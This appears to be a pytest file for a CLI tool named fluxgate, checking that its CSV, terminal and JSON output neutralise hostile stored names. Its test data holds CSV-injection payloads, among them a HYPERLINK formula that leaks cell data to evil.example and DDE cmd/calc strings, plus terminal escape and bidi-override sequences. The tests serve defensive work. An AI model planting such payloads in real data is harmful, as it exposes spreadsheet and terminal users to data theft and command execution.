"""Hostile names in the store cannot run formulas in a spreadsheet or commands in a terminal (issue 12).

Each test stores events whose feature, user and step are attack strings, the
way an application would record whatever its users typed, then runs the
command and reads what it printed.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest

from fluxgate._cli.report import main as report_main
from fluxgate._cli.tail import tail_main

from .events import NOW, event, fill, fluxgate_cli

#: Spreadsheet formula injection (OWASP "CSV Injection").
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: Terminal injection: clear the screen, an OSC-8 link, a forged row, a bidi override, a C1 CSI, a bell.
CLEAR = "\x1b[2J\x1b[Hgone"
LINK = "\x1b]8;;http://evil.example/\x1b\\innocent\x1b]8;;\x1b\\"
FORGED = "chat\nforged-feature  999  $999.00"
BIDI = "user-\u202egnp.exe"
C1 = "csi-\x9b2J"
BELL = "ding\x07\x08\x08"
TERMINAL = (CLEAR, LINK, FORGED, BIDI, C1, BELL)
RAW = ("\x1b", "\x9b", "\u202e", "\x07", "\x08", "\r")


def hostile_store(path: Path) -> Path:
    """One event per attack string in each of feature, user and step."""
    events = []
    for i, text in enumerate((*FORMULAS, *TERMINAL)):
        events.append(event(at=NOW - 1000 * (i + 1), feature=text, user=f"u{i}", step="s"))
        events.append(event(at=NOW - 1000 * (i + 1), feature="f", user=text, step="s"))
        events.append(event(at=NOW - 1000 * (i + 1), feature="f", user=f"u{i}", step=text))
    return fill(path, events)


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return hostile_store(tmp_path / "events.db")


def report(argv: list[str]) -> str:
    out = io.StringIO()
    assert report_main(argv, out=out, now_ms=NOW) == 0
    return out.getvalue()


class TestCSV:
    """``fluxgate report --format csv`` neutralises formulas and keeps the text."""

    @pytest.mark.parametrize("group", ["feature", "user", "step"])
    def test_formulas_neutralised(self, store: Path, group: str) -> None:
        """Every cell starting with =, +, -, @, tab or CR gets a leading quote; the rest of the text is kept."""
        text = report(["--db", str(store), "--format", "csv", "--by", group])
        rows = list(csv.DictReader(io.StringIO(text)))
        cells = {row[group] for row in rows}
        for formula in FORMULAS:
            assert f"'{formula}" in cells, formula
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    def test_numbers_stay_numbers(self, store: Path) -> None:
        """Figures are not quoted: a spreadsheet still sums them."""
        text = report(["--db", str(store), "--format", "csv"])
        row = next(csv.DictReader(io.StringIO(text)))
        assert row["calls"].isdigit()
        assert not row["cost_usd"].startswith("'")

    @pytest.mark.slow
    def test_console_script(self, store: Path) -> None:
        """The real process writes the same neutralised CSV to its stdout."""
        done = fluxgate_cli("report", "--db", str(store), "--format", "csv", "--by", "user", "--since", "2020-01-01")
        assert done.returncode == 0, done.stderr
        cells = {row["user"] for row in csv.DictReader(io.StringIO(done.stdout))}
        assert "'+cmd|' /C calc'!A0" in cells
        assert "+cmd|' /C calc'!A0" not in cells


class TestTerminalReport:
    """``fluxgate report`` prints control characters from names escaped, with or without rich."""

    @staticmethod
    def check(out: str) -> None:
        for raw in RAW:
            assert raw not in out, repr(raw)
        assert "\\x1b[2J\\x1b[Hgone" in out
        assert "\\x1b]8;;http://evil.example/" in out
        assert "\\u202egnp.exe" in out
        # The newline is shown as \n: no line of output starts with the forged row.
        assert "chat\\nforged-feature" in out
        assert not any(line.lstrip().startswith("forged-feature") for line in out.splitlines())

    @pytest.mark.parametrize("group", ["feature", "user", "step"])
    def test_with_rich(self, store: Path, group: str) -> None:
        """rich's tables show the escaped names."""
        pytest.importorskip("rich")
        self.check(report(["--db", str(store), "--by", group]))

    @pytest.mark.parametrize("group", ["feature", "user", "step"])
    def test_without_rich(self, store: Path, group: str, monkeypatch: pytest.MonkeyPatch) -> None:
        """The plain-text tables show the escaped names."""
        monkeypatch.setitem(sys.modules, "rich.console", None)
        out = report(["--db", str(store), "--by", group])
        assert "─" not in out
        self.check(out)

    def test_alert_names_escaped(self, tmp_path: Path) -> None:
        """User ids named in the margin-alert line are escaped too."""
        from fluxgate import AiEventUser

        user = AiEventUser(CLEAR, monthly_revenue=1.0)
        path = fill(tmp_path / "alert.db", [event(cost="5", user=user)])
        out = report(["--db", str(path), "--margin-alert", "0.1"])
        assert "\x1b" not in out
        assert "more than 10% of their revenue: \\x1b[2J" in out

    def test_json_keeps_the_names(self, store: Path) -> None:
        """JSON is escaped by its own rules and gives the names back exactly."""
        data = json.loads(report(["--db", str(store), "--format", "json", "--by", "feature"]))
        assert {*FORMULAS, *TERMINAL} <= {row["feature"] for row in data["rows"]}

    @pytest.mark.slow
    def test_console_script(self, store: Path) -> None:
        """The real process, drawing with rich at a terminal's width, writes no raw control character."""
        done = fluxgate_cli(
            "report", "--db", str(store), "--by", "feature", "--since", "2020-01-01", env={"COLUMNS": "120"}
        )
        assert done.returncode == 0, done.stderr
        self.check(done.stdout)


class TestTail:
    """``fluxgate tail`` prints one line per event, whatever the names hold."""

    def test_table_lines(self, store: Path) -> None:
        """Each event is one line with its control characters escaped."""
        out = io.StringIO()
        assert tail_main(["--db", str(store), "-n", "100"], out=out, stop=lambda: True) == 0
        text = out.getvalue()
        for raw in RAW:
            assert raw not in text, repr(raw)
        lines = text.splitlines()
        assert len(lines) == 1 + 3 * len((*FORMULAS, *TERMINAL))
        assert not any(line.startswith("forged-feature") for line in lines)
        assert any("chat\\nforged" in line for line in lines)  # escaped (and clipped to its column)

    def test_json_lines(self, store: Path) -> None:
        """JSON lines escape control characters and give the names back exactly."""
        out = io.StringIO()
        assert tail_main(["--db", str(store), "-n", "100", "--format", "json"], out=out, stop=lambda: True) == 0
        text = out.getvalue()
        assert "\x1b" not in text
        events = [json.loads(line) for line in text.splitlines()]
        assert {e["feature"] for e in events} >= {*FORMULAS, *TERMINAL}
